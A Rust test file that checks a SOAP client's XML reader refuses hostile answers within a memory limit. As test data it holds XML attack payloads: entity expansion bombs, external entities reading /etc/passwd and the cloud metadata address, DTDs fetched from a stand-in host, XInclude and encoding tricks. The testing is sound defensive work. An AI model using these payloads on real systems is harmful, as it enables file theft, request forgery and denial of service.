//! What attacks XML readers, sent by a SOAP service as its answer: each is refused with a sentence for the operator, asks
//! nobody else for anything, and costs no more memory than an instance has.
//!
//! Time is bounded by what is counted before a tree is built (`source/soap/xml/limits.rs`); memory is measured here, in a test
//! of its own process, so that nothing else allocates meanwhile.

use midspan::{
    prelude::*,
    source::soap,
    testing::{Reply, TestHost},
};
use peak_alloc::PeakAlloc;

#[global_allocator]
static MEMORY: PeakAlloc = PeakAlloc;

/// An instance has 128 MiB, with addresses half as long as here.
const MOST_MEMORY: usize = 192 * 1024 * 1024;

static LEAVE: Source = Source::soap("leave").titled("Leave");

const GET: soap::Operation<Get, Got> = soap::Operation::new("urn:leave/Get").read_only();

#[derive(Debug, Xml)]
#[xml(namespace = "urn:leave")]
struct Get {}

#[derive(Debug, Xml)]
#[xml(namespace = "urn:leave")]
struct Got {
    note: String,
}

/// Get a note
#[operation(get = "/note", auth = none, sources = [LEAVE])]
async fn get_note(ctx: Context) -> Result<String> {
    Ok(ctx.source(&LEAVE).soap(&GET, &Get {}).answer().await?.note)
}

const OPEN: &str =
    "<s:Envelope xmlns:s='http://schemas.xmlsoap.org/soap/envelope/'><s:Body><Got xmlns='urn:leave'><note>";
const CLOSE: &str = "</note></Got></s:Body></s:Envelope>";
const DTD: &str = "has a document type definition, which SOAP forbids";
const ENCODING: &str = "UTF-8, UTF-16 and ISO-8859-1 are read";

/// Fills the answer, which is 8 MiB at most.
const FULL: usize = 8 * 1024 * 1024 - 1024;

fn note(text: &str) -> String {
    format!("{OPEN}{text}{CLOSE}")
}

/// As often as it fits.
fn filling(piece: &str) -> String {
    piece.repeat(FULL / piece.len())
}

fn with_dtd(declarations: &str, text: &str) -> String {
    format!("<?xml version='1.0'?><!DOCTYPE x [{declarations}]>{}", note(text))
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

#[track_caller]
fn check(name: &str, media_type: &str, body: Vec<u8>, expected: Result<&str, &str>) {
    let host = TestHost::new();
    host.on("leave", "POST /", Reply::bytes(200, media_type, body));
    let before = MEMORY.current_usage();
    MEMORY.reset_peak_usage();
    let answer = host.get::<GetNote>("/note");
    let used = MEMORY.peak_usage() - before;
    assert!(used < MOST_MEMORY, "{name} costs {used} bytes");
    assert_eq!(host.requests("leave").len(), 1, "{name} asked for more");
    let log = host.log().concat();
    match expected {
        Ok(text) => assert_eq!(answer.json::<String>(), text, "{name}"),
        Err(reason) => {
            assert_eq!(answer.status(), 502, "{name}: {}", answer.text());
            assert_eq!(answer.error().error.code, ErrorCode::SourceInvalid, "{name}");
            let shown: String = log.chars().take(500).collect();
            assert!(log.contains(reason), "{name}: {shown}");
            assert!(log.len() < 5000, "{name}: a log line of {} bytes", log.len());
        }
    }
    for secret in ["root:", "169.254", "evil.test"] {
        assert!(!answer.text().contains(secret), "{name} shows what it should not");
    }
}

#[track_caller]
fn refused(name: &str, body: impl Into<Vec<u8>>, reason: &str) {
    check(name, "text/xml", body.into(), Err(reason));
}

#[track_caller]
fn taken(name: &str, media_type: &str, body: Vec<u8>, text: &str) {
    check(name, media_type, body, Ok(text));
}

#[test]
fn attacks_by_xml_are_refused_within_the_memory_of_an_instance() {
    entities();
    size_and_structure();
    namespaces();
    encodings();
    what_only_looks_like_an_attack();
}

/// CWE-776, CWE-611: there are none but the built-in ones, and no way to declare them.
fn entities() {
    let laughs = (1..10).fold(String::from("<!ENTITY l0 'ha'>"), |text, n| {
        text + &format!("<!ENTITY l{n} '{}'>", format!("&l{};", n - 1).repeat(10))
    });
    refused("billion laughs", with_dtd(&laughs, "&l9;"), DTD);
    let large = format!("<!ENTITY a '{}'>", "a".repeat(100_000));
    refused("quadratic blow-up", with_dtd(&large, &"&a;".repeat(50_000)), DTD);
    refused("recursion", with_dtd("<!ENTITY a '&b;'><!ENTITY b '&a;'>", "&a;"), DTD);
    refused(
        "a file",
        with_dtd("<!ENTITY f SYSTEM 'file:///etc/passwd'>", "&f;"),
        DTD,
    );
    refused(
        "the metadata service",
        with_dtd("<!ENTITY m SYSTEM 'http://169.254.169.254/latest/meta-data'>", "&m;"),
        DTD,
    );
    refused(
        "a parameter entity",
        with_dtd("<!ENTITY % p SYSTEM 'http://evil.test/p.dtd'> %p;", ""),
        DTD,
    );
    refused(
        "an external subset",
        format!("<!DOCTYPE x SYSTEM 'http://evil.test/x.dtd'>{}", note("")),
        DTD,
    );
    refused(
        "a public identifier",
        format!("<!DOCTYPE x PUBLIC '-//x' 'http://evil.test/x'>{}", note("")),
        DTD,
    );
    refused("a default attribute", with_dtd("<!ATTLIST note a CDATA 'x'>", ""), DTD);
    refused(
        "an unknown entity",
        note("&nbsp;"),
        "is not well-formed: unknown entity",
    );
    refused("a character that is none", note("&#0;"), "is not well-formed");
    refused("a declaration in the content", note("<!ENTITY x 'y'>"), DTD);
}

fn size_and_structure() {
    refused("depth", note(&filling("<a>")), "has more than 500000 tags");
    refused(
        "some depth",
        note(&"<a>".repeat(1000)),
        "has more than 128 elements within each other",
    );
    refused("breadth", note(&filling("<a/>")), "has more than 500000 tags");
    refused("many texts", note(&filling("<a>x</a>y")), "has more than 500000 tags");
    refused(
        "less-than signs in a section",
        note(&format!("<![CDATA[{}]]>", filling("<"))),
        "more than 500000 tags",
    );
    refused(
        "less-than signs in comments",
        note(&format!("<!--{}-->", filling("<"))),
        "more than 500000 tags",
    );
    refused("equals signs", note(&filling("=")), "has more than 500000 equals signs");
    let attributes = (0..300).map(|n| format!(" a{n}='1'")).collect::<Vec<_>>().concat();
    refused(
        "many attributes",
        note(&format!("<a{attributes}/>")),
        "has more than 256 attributes in one element",
    );
    let attributes = format!("<a{}/>", &attributes[..2000]);
    refused(
        "many elements with many attributes",
        note(&filling(&attributes)),
        "has more than 500000 equals signs",
    );
    refused(
        "the same attribute twice",
        note("<a b='1' b='2'/>"),
        "is not well-formed",
    );
    refused(
        "an attribute of 8 MB",
        note(&format!("<a b='{}'/>", filling("x"))),
        "holds the element `a`",
    );
    refused(
        "a name of 8 MB",
        note(&format!("<{}/>", filling("x"))),
        "holds the element",
    );
    refused(
        "an open tag of 8 MB",
        note(&format!("<a {}", filling("x "))),
        "is not well-formed",
    );
    refused(
        "an open comment of 8 MB",
        note(&format!("<!-- {}", filling("- "))),
        "is not well-formed",
    );
    refused(
        "an open section of 8 MB",
        note(&format!("<![CDATA[{}", filling("]]"))),
        "is not well-formed",
    );
    refused(
        "more than is read",
        note(&filling("x")) + &"x".repeat(2048),
        "more than 8388608 bytes",
    );
}

fn namespaces() {
    let declared = (0..250)
        .map(|n| format!(" xmlns:p{n}='u{n}'"))
        .collect::<Vec<_>>()
        .concat();
    refused(
        "namespaces in scope",
        note(&format!("<a{declared}>{}", declared.clone())),
        "",
    );
    let inherited = format!("<a{declared}>{}</a>", "<b xmlns:q='u'/>".repeat(400_000));
    refused(
        "namespaces inherited again and again",
        note(&inherited),
        "declarations of namespaces within others",
    );
    refused("an undeclared prefix", note("<p:a/>"), "is not well-formed");
    refused(
        "the prefix xml taken",
        note("<a xmlns:xml='urn:evil'/>"),
        "is not well-formed",
    );
    refused(
        "the prefix xmlns taken",
        note("<a xmlns:xmlns='urn:evil'/>"),
        "holds the element `a`",
    );
    let other = note("x").replace("urn:leave", "urn:evil");
    refused(
        "the right names in a wrong namespace",
        other,
        "is not the element that this operation answers with",
    );
}

/// What can't be read in the declared encoding is not guessed at, and none hides a declaration.
fn encodings() {
    let declaring = |encoding: &str, text: &str| format!("<?xml version='1.0' encoding='{encoding}'?>{text}");
    refused("UTF-7", declaring("UTF-7", &note("+ADw-!DOCTYPE+AD4-")), ENCODING);
    refused("EBCDIC", declaring("IBM037", &note("")), ENCODING);
    refused("UTF-32", declaring("UTF-32", &note("")), ENCODING);
    refused("Shift JIS", declaring("Shift_JIS", &note("")), ENCODING);
    let refused = |name: &str, media_type: &str, bytes: Vec<u8>, why: &str| check(name, media_type, bytes, Err(why));
    let dtd = with_dtd("<!ENTITY x 'y'>", "&x;");
    refused("a DTD in UTF-16", "text/xml", utf16(&format!("\u{feff}{dtd}")), DTD);
    refused(
        "a DTD in UTF-16 without a mark",
        "text/xml; charset=utf-16",
        utf16(&dtd),
        DTD,
    );
    refused(
        "UTF-16 called UTF-8",
        "text/xml; charset=utf-8",
        utf16(&note("x")),
        "is not well-formed",
    );
    refused(
        "half a character",
        "text/xml",
        [utf16(&format!("\u{feff}{}", note("x"))), vec![0]].concat(),
        "UTF-16",
    );
    refused(
        "a lone surrogate",
        "text/xml",
        [vec![0xFF, 0xFE, 0x00, 0xD8], utf16("<a/>")].concat(),
        "UTF-16",
    );
    refused(
        "overlong UTF-8",
        "text/xml",
        [b"\xC0\xBC!DOCTYPE x>".to_vec(), note("").into()].concat(),
        "UTF-8",
    );
    refused(
        "Latin-1 called UTF-8",
        "text/xml",
        note("J@rg").replace('@', "\u{1}").into(),
        "is not well-formed",
    );
    refused("a zero byte", "text/xml", note("a\0b").into(), "is not well-formed");
    refused("another charset", "text/xml; charset=utf-7", note("x").into(), ENCODING);
}

/// What looks like a way out and is only text.
fn what_only_looks_like_an_attack() {
    let declaring = |encoding: &str, text: &str| format!("<?xml version='1.0' encoding='{encoding}'?>{text}");
    let xinclude = "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>";
    refused(
        "XInclude",
        note(xinclude),
        "holds the element `include` where text is expected",
    );
    let located = note("x").replace(
        "<note>",
        "<note xmlns:i='http://www.w3.org/2001/XMLSchema-instance' i:schemaLocation='urn:leave http://evil.test/x.xsd'>",
    );
    taken(
        "an encoding of 8 MB",
        "text/xml",
        declaring(&"x".repeat(8_000_000), &note("x")).into(),
        "x",
    );
    taken("a schema's location", "text/xml", located.into(), "x");
    let styled = format!(
        "<?xml-stylesheet href='http://evil.test/x.xsl' type='text/xsl'?>{}",
        note("x")
    );
    taken("a style sheet", "text/xml", styled.into(), "x");
    taken(
        "a section",
        "text/xml",
        note("<![CDATA[<!DOCTYPE x>]]>").into(),
        "<!DOCTYPE x>",
    );
    taken(
        "the built-in entities",
        "text/xml",
        note("&lt;&amp;&gt;&quot;&apos;&#x4A;").into(),
        "<&>\"'J",
    );
    taken(
        "UTF-16",
        "text/xml",
        utf16(&format!("\u{feff}{}", note("Jürg"))),
        "Jürg",
    );
    let latin1 = [OPEN.as_bytes(), b"J\xFCrg", CLOSE.as_bytes()].concat();
    taken("Latin-1", "text/xml; charset=iso-8859-1", latin1, "Jürg");
    let long = "x".repeat(FULL - 1024);
    taken("8 MB of text", "text/xml", note(&long).into(), &long);
    taken(
        "8 MB of sections",
        "text/xml",
        note(&"<![CDATA[x]]>".repeat(490_000)).into(),
        &"x".repeat(490_000),
    );
}
